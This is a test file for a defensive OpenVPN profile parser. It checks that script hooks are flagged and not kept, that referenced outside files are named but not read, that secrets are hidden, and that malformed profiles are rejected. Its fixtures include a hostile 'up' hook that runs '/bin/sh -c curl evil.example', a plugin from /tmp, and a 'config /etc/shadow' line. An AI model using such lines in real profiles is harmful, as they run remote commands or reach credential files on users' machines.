from textwrap import dedent

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from waythrough.model.secret import Secret
from waythrough.wire.openvpn_profile import (
    HOOKS,
    KEPT,
    Profile,
    ProfileError,
    Proto,
    Remote,
    Wrap,
    parse_profile,
    split_words,
)

WHOLE = """\ufeff
# as providers hand them out\r
client
dev tun
proto udp
remote vpn.example 1194
remote 192.0.2.1 443 tcp-client ; by web port
<connection>
remote "2001:db8::1"
port 53
proto udp6
</connection>
--cipher AES-256-GCM
auth sha512
up "/bin/sh -c 'curl evil.example'"
plugin /tmp/x.so
script-security 2
management 127.0.0.1 7505
auth-user-pass
remote-cert-tls server
key-direction 1
<ca>
-----BEGIN CERTIFICATE-----
up not-a-hook
-----END CERTIFICATE-----
</ca>
<tls-auth>
key
</tls-auth>
<foreign>
thing
</foreign>
"""


def test_a_whole_profile() -> None:
    profile = parse_profile(WHOLE)
    assert profile.remotes == (
        Remote(host="vpn.example", port=1194, proto=Proto.UDP),
        Remote(host="192.0.2.1", port=443, proto=Proto.TCP, family=4),
        Remote(host="2001:db8::1", port=53, proto=Proto.UDP, family=6),
    )
    assert (profile.wrap, profile.key_direction, profile.auth, profile.login) == (
        Wrap.AUTH,
        1,
        "SHA512",
        True,
    )
    assert profile.hooks == ("up", "plugin")
    assert profile.left_out == ("client", "script-security", "management", "foreign")
    assert profile.missing == ()
    assert profile.option("remote-cert-tls") == ("server",)
    assert profile.option("tls-cipher") is None
    assert "up not-a-hook" in profile.block("ca")
    assert profile.block("cert") == ""
    assert [line[0] for line in profile.lines] == ["cipher", "auth", "remote-cert-tls", "key-direction"]


def test_nothing_of_a_profile_is_shown() -> None:
    told = repr(parse_profile(WHOLE + "<key>\nvery-secret\n</key>\n"))
    assert "very-secret" not in told


@pytest.mark.parametrize("name", sorted(HOOKS))
def test_what_would_run_is_told_and_not_kept(name: str) -> None:
    profile = parse_profile(f"remote a.example\n--{name.upper()} /bin/true\n")
    assert profile.hooks == (name,)
    assert profile.lines == ()


def test_hooks_and_lines_kept_have_nothing_in_common() -> None:
    assert not HOOKS & KEPT
    assert not KEPT & {"script-security", "setenv", "config", "cd", "log", "management", "ca", "remote"}


def test_files_outside_are_named_and_never_read() -> None:
    profile = parse_profile(
        "remote a.example\nca ca.crt\ntls-auth ta.key 1\nconfig /etc/shadow\nkey [inline]\n"
    )
    assert profile.missing == ("ca", "tls-auth", "config")
    assert (profile.wrap, profile.key_direction) == (Wrap.AUTH, 1)


def test_a_file_that_is_inside_as_well_is_not_missing() -> None:
    assert parse_profile("remote a.example\nca ca.crt\n<ca>\nx\n</ca>\n").missing == ()


def test_files_named_inside_a_connection_are_missing_too() -> None:
    text = "<connection>\nremote a.example\nup /bin/sh\nfoo\ntls-auth ta.key\n</connection>\n"
    profile = parse_profile(text)
    assert (profile.hooks, profile.left_out, profile.missing) == (("up",), ("foo",), ("tls-auth",))


def test_a_log_in_may_stand_in_the_profile() -> None:
    profile = parse_profile("remote a.example\n<auth-user-pass>\nme\nword\n</auth-user-pass>\n")
    assert profile.login
    assert profile.blocks["auth-user-pass"] == Secret("me\nword\n")


@pytest.mark.parametrize(
    ("wrap", "name"),
    [(Wrap.CRYPT, "tls-crypt"), (Wrap.CRYPT_V2, "tls-crypt-v2"), (Wrap.AUTH, "tls-auth")],
)
def test_the_wrap_is_that_of_the_key(wrap: Wrap, name: str) -> None:
    assert parse_profile(f"remote a.example\n<{name}>\nx\n</{name}>\n").wrap is wrap


def test_settings_behind_a_remote_hold_for_it() -> None:
    assert parse_profile("remote a.example\nrport 80\nproto tcp4\n").remotes == (
        Remote(host="a.example", port=80, proto=Proto.TCP, family=4),
    )


@pytest.mark.parametrize(
    ("text", "words"),
    [
        ("", "no server"),
        ("proto udp\nremote\nport\n", "no server"),
        ("remote a.example 0", "a port"),
        ("remote a.example 65536", "a port"),
        ("remote a.example " + "9" * 5000, "a port"),
        ("remote a.example ١", "a port"),
        ("remote a.example 1 sctp", "a protocol"),
        ("remote a.example\nproto http", "a protocol"),
        ("remote a.example\ndev tap0", "Ethernet"),
        ("remote a.example\ndev x\ndev-type tap", "Ethernet"),
        ("remote a.example\nsecret static.key", "static key"),
        ("remote a.example\n<secret>\n</secret>", "static key"),
        ("remote a.example\n<ca>\nx", "no end"),
        ("<connection>\n<ca>\nx\n</ca>\n</connection>", "another block"),
        ("remote 'a.example", "quote"),
        ("remote a.example\nkey-direction 2", "direction"),
        ("remote a.example\ntls-auth k sideways", "direction"),
        ("x" * 70000, "64 KB"),
        ("remote a.example\n" * 65, "64 servers"),
    ],
)  # fmt: skip
def test_what_cannot_be_used_is_refused_in_plain_words(text: str, words: str) -> None:
    with pytest.raises(ProfileError, match=words):
        parse_profile(text)


@pytest.mark.parametrize(
    ("line", "words"),
    [
        ('a "b c" d', ("a", "b c", "d")),
        ("a 'b \\ c'", ("a", "b \\ c")),
        ("a b\\ c\\", ("a", "b c")),
        ('a "x\\"y" # rest', ("a", 'x"y')),
        ("a b;c", ("a", "b;c")),
        ("a \t b ", ("a", "b")),
        ('a ""', ("a", "")),
        ("; a", ()),
        ("#", ()),
    ],
)
def test_words_of_a_line(line: str, words: tuple[str, ...]) -> None:
    assert split_words(line) == words


LINES = st.sampled_from(
    [*dedent(WHOLE).splitlines(), "up x", "<ca>", "</ca>", "'", "remote a b c", "dev tap"]
)


@given(st.one_of(st.text(max_size=300), st.lists(LINES, max_size=30).map("\n".join)))
@example("<>\n</>\nremote a")
def test_whatever_comes_is_read_or_refused(text: str) -> None:
    try:
        profile = parse_profile(text)
    except ProfileError:
        return
    assert isinstance(profile, Profile)
    assert all(line[0] in KEPT for line in profile.lines)
